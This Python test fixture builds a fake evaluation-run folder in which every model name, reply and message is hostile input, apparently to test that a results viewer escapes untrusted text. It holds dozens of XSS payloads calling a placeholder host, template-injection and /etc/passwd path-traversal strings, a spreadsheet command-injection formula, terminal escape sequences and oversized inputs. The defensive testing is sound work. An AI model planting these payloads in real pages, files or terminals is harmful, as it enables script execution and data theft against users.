"""What a model could write to take over a page, a terminal or a reader's eye, and a run in which it stands everywhere."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import msgspec

from steelyard.records import (
    Answer,
    Case,
    Cost,
    Diagnostic,
    EvalSetFile,
    Evidence,
    Failure,
    Finding,
    Judgment,
    Message,
    Panel,
    Reply,
    RunInfo,
    Span,
    Test,
    Verdict,
)
from steelyard.tiers.rubrics import default_rubric

if TYPE_CHECKING:
    from pathlib import Path

SEEN = "hostile.invalid"
"""The host that every text tries to reach; a browser that asks for it has obeyed."""
MARK = "steelyard_was_owned"
"""The variable that every script tries to set."""
RUN = f"window.{MARK}=1;console.log('{MARK}');fetch('http://{SEEN}/run')"

TEXTS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script from elsewhere": f"<script src=http://{SEEN}/a.js></script>",
    "script as a module": f'<script type="module">{RUN}</script>',
    "script left open": f"<script>{RUN}",
    "the end of a script": f"</script><script>{RUN}</script>",
    "the end of a style": f"</style><script>{RUN}</script>",
    "the end of a title": f"</title><script>{RUN}</script>",
    "the end of a text area": f"</textarea><script>{RUN}</script>",
    "the end of preformatted text": f"</pre></details></div></article><script>{RUN}</script>",
    "the end of a comment": f"--><script>{RUN}</script><!--",
    "the end of character data": f"]]><script>{RUN}</script><![CDATA[",
    "the end of a page": f"</body></html><script>{RUN}</script>",
    "the end of an attribute": f'"><script>{RUN}</script>',
    "the end of an attribute in single quotes": f"'><script>{RUN}</script>",
    "the end of a template": f"</template></noscript><script>{RUN}</script>",
    "a handler in an attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "a picture that fails": f'<img src=x onerror="{RUN}">',
    "a picture from elsewhere": f'<img src="http://{SEEN}/p.png" srcset="http://{SEEN}/q.png 2x">',
    "a body that loads": f'<body onload="{RUN}">',
    "a field that is focused": f'<input autofocus onfocus="{RUN}">',
    "details that open": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "a moving text": f'<marquee onstart="{RUN}">x</marquee>',
    "a video": f'<video src="http://{SEEN}/v" onerror="{RUN}"><source onerror="{RUN}"></video>',
    "a sound": f'<audio src="http://{SEEN}/s" autoplay onerror="{RUN}"></audio>',
    "a frame": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "a frame with a page": f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    "an object": f'<object data="http://{SEEN}/o"></object><embed src="http://{SEEN}/e">',
    "a drawing": f'<svg onload="{RUN}"><circle r="9"/></svg>',
    "a drawing with a script": f"<svg><script>{RUN}</script></svg>",
    "a drawing that animates": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    "a drawing that uses another": f'<svg><use href="http://{SEEN}/u.svg#x"/></svg>',
    "a drawing with a page": f'<svg><foreignObject><body onload="{RUN}"/></foreignObject></svg>',
    "a formula": f'<math href="javascript:{RUN}"><mtext></mtext></math>',
    "a link that runs": f'<a href="javascript:{RUN}">look</a>',
    "a link with a blank in it": f'<a href="java\tscript:{RUN}">look</a>',
    "a link in Markdown": f"[look](javascript:{RUN}) ![x](http://{SEEN}/m.png)",
    "a data address": f'<a href="data:text/html,<script>{RUN}</script>">look</a>',
    "a data address in base64": "<iframe src=data:text/html;base64,PHNjcmlwdD5wYXJlbnQub3duZWQ9MTwvc2NyaXB0Pg==></iframe>",
    "a form": f'<form action="http://{SEEN}/f"><button autofocus>Log in</button></form>',
    "a refresh": f'<meta http-equiv="refresh" content="0;url=http://{SEEN}/r">',
    "another policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "another base": f'<base href="http://{SEEN}/">',
    "a style": f'<style>@import url("http://{SEEN}/s.css");body{{display:none}}</style>',
    "a style in an attribute": f'<p style="background:url(http://{SEEN}/b.png);position:fixed;inset:0">x</p>',
    "a sheet of styles": f'<link rel="stylesheet" href="http://{SEEN}/l.css"><link rel="prefetch" href="http://{SEEN}/n">',
    "a template expression": "{{7*7}} {{ config }} {{ ''.__class__.__mro__ }}",
    "a template statement": "{% for x in range(99999999) %}x{% endfor %} {% include '/etc/passwd' %} {# comment #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> @(7*7) [[7*7]] {{constructor.constructor('alert(1)')()}}",
    "an expression of a chart": "datum.value; 'x' + alert(1) + \"y\" \\u0022 datum['x']",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62; &amp;lt; &NotAnEntity; &#x0;",
    "half an entity": "&#x3c script &lt script &am",
    "strange letters for brackets": "\uff1cscript\uff1e \u2039script\u203a \u02c2script\u02c3",
    "text that turns around": "\u202etxt.exe\u202c \u2066abc\u2067def\u2069 \u200f\u200e",
    "text that is not there": "a\u200bb\u200c\u200dc\u2060d\ufeffe\u00adf\U000e0041\U000e007f",
    "the end of a line that is none": "one\u2028two\u2029three\x85four\x0bfive\x0csix\rseven",
    "letters that pile up": "Z" + "\u0300\u0316\u0361\u0489" * 200,
    "wide and strange letters": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \ufdfd \U0001d54a \u0e01\u0e33\u0e33\u0e33",
    "colours of a terminal": "\x1b[31;1mred\x1b[0m \x1b[38;2;1;2;3mmore\x1b[m",
    "commands to a terminal": "\x1b]0;title\x07\x1b[2J\x1b[H\x1b]52;c;ZWNobw==\x07\x9b2J\x1b]8;;http://hostile.invalid\x1b\\x\x1b]8;;\x1b\\",
    "no character at all": "before\x00after\x00\x00 \x01\x02\x03\x7f\x80\x9f",
    "a cell that computes": "=cmd|'/c calc'!A1 +1+1 @SUM(1) -2",
    "quotes and slashes": "\"'`\\\" \\' \\\\ \\n \\x3c /*x*/ //x",
    "nothing but blanks": " \t \n\n\n \t ",
    "a path": "../../../../etc/passwd %2e%2e%2f ..\\..\\ file:///etc/passwd",
    "a long word": "Donaudampfschifffahrtsgesellschaftskapitän" * 40,
    "very many lines": "line\n" * 20_000,
    "brackets without end": "<" * 50_000,
}
"""By what they are; every one is a reply, a name and a message in the run below."""

LINE = 5_000_000
SHORTEST = LINE // 6
"""Of the endless ones; there is one attempt for each."""
ENDLESS: dict[str, str] = {
    "five megabytes on a line": "A" * LINE,
    "five megabytes of brackets": "<b>" * (LINE // 3),
    # each is written with six letters
    "five megabytes of controls": "\x1b" * (LINE // 6),
}
"""Replies that no page can show as a whole."""

BROKEN: tuple[bytes, ...] = (
    b'{"kind":"reply","key":"x","at":"","case":"script","model":"m","number":1,"asked":"","answer":{"text":"\\ud800 alone"}}',
    b'{"kind":"reply","key":"x","at":"","case":"script","model":"m","number":1,"asked":"","answer":{"text":"\xff\xfe\xc3\x28"}}',
    b'{"kind":"reply","key":"x","at":"","case":"script","model":"m","number":"<script>","asked":"","answer":{"text":1}}',
    b'{"kind":"<script>alert(1)</script>","key":"x"}',
    b"\x00\x01\x02 not JSON at all <script>alert(1)</script>",
    b"[" * 5_000,
)
"""Lines of a journal that cannot be read: lone surrogates, bytes that are no UTF-8, other types, no JSON."""

MODELS = (f'evil/<img src=x onerror="{RUN}">', "tidy/model \u202e{{7*7}}</script>")
WHEN = "2026-03-04T05:06:07.000000000+00:00"


def cases() -> tuple[Case, ...]:
    """A case for each text, which is its name, its prompt and its tag as well; ids may not be told apart by eye."""
    return tuple(
        Case(
            id=f"{number} {text[:300]}",
            name=text[:2000],
            prompt=(
                Message(role="system", content=text[:50_000]),
                Message(role=f"user {text[:40]}", content=text[:50_000]),
            ),
            language=("python", "rust", "javascript", "json", "html", text[:50])[number % 6],
            tags=(text[:80],),
            target="x" if number % 3 == 0 else "",
            suite=text[:60] if number % 3 == 0 else "",
        )
        for number, text in enumerate((*TEXTS.values(), *ENDLESS.values()))
    )


def write_hostile_run(folder: Path, *, endless: bool = True) -> None:
    """A run folder in which all that others write is hostile: names, replies, messages, and damaged lines between them."""
    folder.mkdir(parents=True)
    asked = cases()
    info = RunInfo(
        id="20260304-050607-<b>",
        started_at=WHEN,
        ended_at=WHEN,
        eval_sets=(EvalSetFile(path=f"evals/{TEXTS['a picture that fails']}.toml", digest=TEXTS["script"]),),
        models=MODELS,
        names=MODELS,
        parameters={TEXTS["script"]: TEXTS["a drawing"], "temperature": 1},
        system=TEXTS["the end of preformatted text"],
        samples=2,
        panel=Panel(
            judges=(TEXTS["script"],), rubric=msgspec.to_builtins(default_rubric()), digest=default_rubric().digest
        ),
        versions={TEXTS["a style"]: TEXTS["a refresh"]},
    )
    (folder / "run.json").write_bytes(msgspec.json.encode(info))
    (folder / "cases.jsonl").write_bytes(b"".join(msgspec.json.encode(case) + b"\n" for case in asked))
    texts = (*TEXTS.values(), *(ENDLESS.values() if endless else ("short",) * len(ENDLESS)))
    with (folder / "attempts.jsonl").open("wb") as journal:
        for place, (case, text) in enumerate(zip(asked, texts, strict=True)):
            for model in MODELS[: 1 if len(text) >= SHORTEST else 2]:
                for fact in _facts(case, text, model, place):
                    journal.write(msgspec.json.encode(fact) + b"\n")
            if place < len(BROKEN):
                journal.write(BROKEN[place] + b"\n")
        journal.write(b'{"kind":"reply","key":"cut off')


def _facts(case: Case, text: str, model: str, place: int) -> list[Any]:
    about: dict[str, Any] = {"at": WHEN, "case": case.id, "model": model}
    facts: list[Any] = []
    for number in (1,) if len(text) >= SHORTEST else (1, 2):
        key = f"{place}/{MODELS.index(model)}/{number}"
        answer = Answer(
            text=text,
            finish=text[:60] or "stop",
            error=text[:5_000] if number == 1 else "",
            reasoning=text[:5_000],
            transcript=text[:5_000],
            input_tokens=10,
            output_tokens=20 + place,
            latency=1 + place % 7,
            cost=Cost(usd=0.001 * (1 + place % 5), source=text[:60]),
        )
        facts.append(Reply(key=key, number=number, answer=answer, asked="", **about))
        if place % 11 == 10 and number == 2:
            facts.append(Failure(key=key, number=number, stage="verify", message=text[:10_000], **about))
            continue
        is_right = number == 2 and place % 2 == 0
        found = _right() if is_right else _wrong(text)
        facts.append(
            Verdict(
                key=f"v{key}", number=number, ask=key, tests=case.tests_digest, verifier=text[:60], found=found, **about
            )
        )
        marks = {category.name: {"score": 0.5, "reason": text[:200]} for category in default_rubric().categories}
        said = json.dumps({"criteria_scores": marks, "reasoning": text[:200]}) if place % 4 else text[:1_000]
        facts.append(
            Judgment(
                key=f"a{key}",
                number=number,
                ask=key,
                judge=TEXTS["script"],
                rubric=default_rubric().digest,
                answer=Answer(text=said),
                **about,
            )
        )
    return facts


def _right() -> Finding:
    return Finding(code="x = 1", compiled=True, tests=(Test(name="fine", outcome="passed"),), passed=True, score=1.0)


def _wrong(whole: str) -> Finding:
    text = whole[:50_000]
    return Finding(
        code=whole,
        compiled=False,
        tests=(
            Test(name=text[:1_000], outcome="failed", message=whole),
            Test(name=text[:1_000], outcome="ignored", message=text[:1_000]),
            Test(name=text[:1_000], outcome="passed"),
        ),
        warnings=1,
        diagnostics=(
            Diagnostic(
                level=text[:30] or "error",
                message=text,
                code=text[:30],
                spans=(Span(file=text[:200], line_start=1, line_end=1, column_start=1, column_end=2, text=text[:200]),),
            ),
        ),
        missing=(text[:100],),
        passed=False,
        score=0.0,
        levels={text[:40] or "level": False},
        label=text[:80],
        reason=text,
        evidence=(Evidence(rule=text[:60], what=text[:500], matched=text[:500], position=0, line=1, column=1),),
        output=text,
        trust="in-process",
        isolation=text[:30],
        tampered=text[:400] if text.startswith("<script>") else "",
    )
